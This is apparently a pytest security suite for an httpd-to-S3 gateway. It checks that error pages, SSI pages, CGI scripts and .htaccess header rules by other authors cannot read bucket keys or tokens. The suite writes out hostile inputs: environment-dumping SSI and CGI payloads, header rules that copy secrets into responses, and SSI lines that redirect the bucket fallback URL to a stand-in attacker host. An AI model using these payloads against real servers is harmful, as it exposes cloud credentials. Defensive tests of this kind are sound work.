"""Pages, scripts and headers of other authors read no secret of a bucket's settings after a request to it.

After an internal redirect httpd keeps the environment of the first request, with REDIRECT_ before each name.
``Scenario.fetch`` looks for keys, tokens and signatures in each reply. The table of the trust boundary is in
test_trust_gateway.py.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.httpd.conftest import BUCKET
from tests.httpd.test_trust_gateway import copied_script, copy_script
from tests.httpd.trust import DATA, HAS_CGI, KEY, Scenario, keys, running_scenario
from tests.httpd.trust_attacks import include
from tests.leaks import SECRET_KEY, TOKEN, leaks
from tests.s3 import EmbeddedS3

#: mod_include writes values with entities: a "+" or "/" in a key stays as it is.
NAMES = ["S3SecretKey", "S3SecurityToken", "S3AccessKey", "S3BucketURL", "USP_S3_SETTINGS"]
PREFIXES = ["", "REDIRECT_", "REDIRECT_REDIRECT_"]
ECHO = "".join(f'<!--#echo var="{prefix}{name}" -->\n' for prefix in PREFIXES for name in NAMES)
PRINT = f"printed:\n<!--#printenv -->\n{ECHO}"
SCRIPT = "#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\nprinted:\\n'\nenv\n"
HEADERS = "".join(
    f'Header always set X-{number}-{index} "%{{{prefix}{name}}}e"\n'
    f'Header always set Y-{number}-{index} "expr=%{{reqenv:{prefix}{name}}}"\n'
    for number, prefix in enumerate(PREFIXES)
    for index, name in enumerate(NAMES)
)
#: The targets of the operator's ErrorDocument: pages that belong to another author.
READERS = {
    "page": "/a/page.shtml",
    "outer": "/a/outer.shtml",
    "redirect": "/a/redirect.asis",
    "header": "/a/header.txt",
}
if HAS_CGI:
    READERS["cgi"] = "/a/env.cgi"
STATUSES = (403, 404, 405, 500, 502, 503)


def documents(target: str) -> str:
    return "".join(f"ErrorDocument {status} {target}\n" for status in STATUSES)


def config(s3: EmbeddedS3) -> str:
    """Mounts with each reader as ErrorDocument: gateway and ``<Proxy>``, for the bucket and a server that is down."""
    url, parts = f"http://BUCKET_HOST/{BUCKET}", []
    for name, target in READERS.items():
        for mode, options in (("e", ""), ("d", "process-group=s3 application-group=%{GLOBAL}")):
            for bucket, bucket_url in (("ok", f"{url}/"), ("away", "http://127.0.0.1:1/b/")):
                parts.append(f"""
WSGIScriptAlias /{name}-{mode}-{bucket} ${{USP_S3_WSGI}} {options}
<Location /{name}-{mode}-{bucket}>
  SetEnv S3BucketURL {bucket_url}
  SetEnv S3ProxySet "connectiontimeout=1"
  SetEnv S3Retries 0
{keys(s3)}
  WSGIErrorOverride On
{documents(target)}</Location>""")
        for bucket, bucket_url in (("ok", url), ("away", "http://127.0.0.1:1/b")):
            parts.append(f"ProxyPass /{name}-p-{bucket} {bucket_url}/{name}")
            parts.append(f"<Location /{name}-p-{bucket}>\n{documents(target)}</Location>")
            parts.append(f'<Proxy "{bucket_url}/{name}/">\n{keys(s3)}</Proxy>')
    return "\n".join(parts)


@pytest.fixture(scope="module")
def running(s3: EmbeddedS3) -> Iterator[Scenario]:
    with running_scenario(s3, config(s3)) as scenario:
        scenario.write("a/page.shtml", PRINT)
        scenario.write("a/outer.shtml", f"printed:\n{include('/a/page.shtml')}")
        scenario.write("a/redirect.asis", "Status: 200 OK\nLocation: /a/page.shtml\n\n")
        scenario.write("a/header.txt", "printed: in headers\n")
        scenario.write("a/env.cgi", SCRIPT, 0o755)
        scenario.write("a/.htaccess", HEADERS)
        yield scenario


@pytest.mark.parametrize("bucket", ["ok", "away"])
@pytest.mark.parametrize("mode", ["e", "d", "p"])
@pytest.mark.parametrize("reader", READERS)
def test_the_page_of_an_error(running: Scenario, reader: str, mode: str, bucket: str) -> None:
    """The author of the error page reads no key, no token, no signature, and nothing that could be used again."""
    running.httpd.expect_error(r"\[proxy")
    for key in ("missing.ts", "a%2500b", ""):
        reply = running.fetch(f"/{reader}-{mode}-{bucket}/{key}")
        # In embedded mode mod_wsgi does not replace an application's errors. The .asis file sets the status itself.
        assert reply.status >= 400 or reader == "redirect"
        assert mode == "e" or b"printed:" in reply.body, (key, reply.body)
        shown = reply.body + str(reply.headers).encode()
        assert SECRET_KEY.encode() not in shown.replace(b"&#43;", b"+") and not leaks(shown.replace(b"&#43;", b"+"))
    reply = running.fetch(f"/{reader}-{mode}-{bucket}/a.ts", method="PUT")
    assert reply.status == 405 or reader == "redirect"
    assert mode == "e" or b"printed:" in reply.body


@pytest.mark.parametrize("mode", ["e", "d", "p"])
def test_an_error_in_a_page_leaves_the_page_complete(running: Scenario, mode: str) -> None:
    """mod_wsgi omits the body of such an error, but not its Content-Length."""
    running.httpd.expect_error(r"\[proxy")
    for bucket in ("ok", "away"):
        running.write("a/around.shtml", f"begin {include(f'/page-{mode}-{bucket}/missing.ts')} end")
        reply = running.fetch("/a/around.shtml")
        assert reply.body.startswith(b"begin ") and reply.body.endswith(b" end")


def test_a_page_cannot_use_the_variables_that_it_reads(running: Scenario) -> None:
    """A page sets again each variable of this package that an error page shows, for another host."""
    body = running.fetch("/page-d-ok/missing.ts").body.decode("latin-1")
    seen = dict(line.partition("=")[::2] for line in body.splitlines() if "USP_S3" in line.partition("=")[0])
    attack = "".join(
        f"<!--#set var=\"{name.removeprefix('REDIRECT_')}\" value='{value}' -->".replace(
            running.bucket.host, running.attacker.host
        )
        for name, value in seen.items()
    )
    running.write("a/again.shtml", attack + include("/page-e-ok/missing.ts") + include("/page-d-ok/missing.ts"))
    running.fetch("/a/again.shtml")
    assert running.attacker.received == b""


# --- .htaccess in the directory of the gateway's script


@pytest.fixture(scope="module")
def own_directory(s3: EmbeddedS3) -> Iterator[Scenario]:
    daemon = "process-group=s3 application-group=%{GLOBAL}"
    with running_scenario(s3, copied_script(s3, "/own-e") + copied_script(s3, "/own-d", daemon)) as running:
        for folder in ("own-e", "own-d"):
            copy_script(running, folder)
        yield running


@pytest.mark.parametrize("mount", ["own-e", "own-d"])
def test_htaccess_of_the_script_reads_nothing(own_directory: Scenario, mount: str) -> None:
    """With headers, and with expressions in an ErrorDocument."""
    expressions = "".join(f"%{{reqenv:{name}}} " for name in NAMES)
    documents_ = "".join(f'ErrorDocument {status} "printed: {expressions}"\n' for status in STATUSES)
    own_directory.write(f"{mount}/.htaccess", f"{HEADERS}WSGIErrorOverride On\n{documents_}")
    reply = own_directory.fetch(f"/{mount}/{KEY}")
    own_directory.assert_served(reply)
    assert SECRET_KEY not in str(reply.headers) and TOKEN not in str(reply.headers)
    reply = own_directory.fetch(f"/{mount}/missing.ts")
    assert reply.status == 404 and SECRET_KEY.encode() not in reply.body and TOKEN.encode() not in reply.body


SSI = ["embedded", "daemon", "proxied"]


def test_an_object_with_ssi(s3: EmbeddedS3) -> None:
    """Authors of objects are not the operator: objects that mod_include processes print no secret."""
    filters = "".join(
        f"<Location /{mount}>\nOptions +Includes\nSetOutputFilter INCLUDES\n</Location>\n" for mount in SSI
    )
    url = f"http://BUCKET_HOST/{BUCKET}"
    proxied = f'ProxyPass /proxied {url}\n<Proxy "{url}/">\n{keys(s3)}</Proxy>\n'
    attack = '<!--#set var="S3FallbackURL" value="http://ATTACKER/b/" --><!--#set var="S3FallbackOn404" value="on" -->'
    with running_scenario(s3, proxied + filters) as running:
        own = attack.replace("ATTACKER", running.attacker.host)
        for mount in SSI:
            parts = "".join(include(f"/{other}/{key}") for other in SSI for key in (KEY, "missing.ts"))
            s3.put(BUCKET, "page.html", f"{PRINT}{own}{parts}".encode(), content_type="text/html")
            running.write(f"{mount}.shtml", include(f"/{mount}/page.html") + PRINT)
            for target in (f"/{mount}/page.html", f"/{mount}.shtml"):
                reply = running.fetch(target)
                assert reply.status == 200 and b"printed:" in reply.body and reply.body.count(DATA) >= len(SSI)
                text = reply.body.replace(b"&#43;", b"+")
                assert SECRET_KEY.encode() not in text and TOKEN.encode() not in text
                assert running.attacker.received == b""
